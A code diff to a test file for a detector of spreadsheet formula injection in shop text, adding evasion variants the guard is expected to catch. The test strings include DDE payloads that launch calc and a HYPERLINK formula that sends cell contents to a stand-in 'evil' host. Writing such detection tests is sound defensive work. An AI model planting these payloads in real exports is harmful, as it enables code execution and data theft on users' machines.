@@ -23,7 +23,7 @@ describe('guard', () => {
   });
 
   it('tells a formula that runs code from shop copy that only starts like one', () => {
-    expect(['=1+1', '@SUM(A1)', '-HYPERLINK("x")', "+cmd|' /C calc'!A0", '=x', '+HYPERLINK ("http://evil/?"&A1,"x")', '@SUM (A1:A9)', "-1+cmd |' /C calc'!A0", '+ＨＹＰＥＲＬＩＮＫ("x")', '＝1+1'].every(runsCode)).toBe(true);
-    expect(['-20% auf alles!', '@home Kissen', '-20% | Northpine', '-20% on tents | Northpine!', '-20%: nur heute', '+49 030 1234', 'Sale: =50%', '-5'].some(runsCode)).toBe(false);
+    expect(['=1+1', '@SUM(A1)', '-HYPERLINK("x")', "+cmd|' /C calc'!A0", '=x', '+HYPERLINK ("http://evil/?"&A1,"x")', '@SUM (A1:A9)', "-1+cmd |' /C calc'!A0", '+ＨＹＰＥＲＬＩＮＫ("x")', '＝1+1', ' =HYPERLINK("http://evil.example","x")', '\u00a0=1+1', '\uFEFF=1+1', '\n=HYPERLINK("x")', "-cmd|' /C calc'!_xlbgnm.A1", "+cmd|'/C calc'!'A0'", 'cmd|calc!A0'.replace(/^/, '@')].every(runsCode)).toBe(true);
+    expect(['-20% auf alles!', '@home Kissen', '-20% | Northpine', '-20% on tents | Northpine!', '-20% on tents | Northpine! Jetzt kaufen', '-20%: nur heute', '+49 030 1234', 'Sale: =50%', '-5'].some(runsCode)).toBe(false);
   });
 });
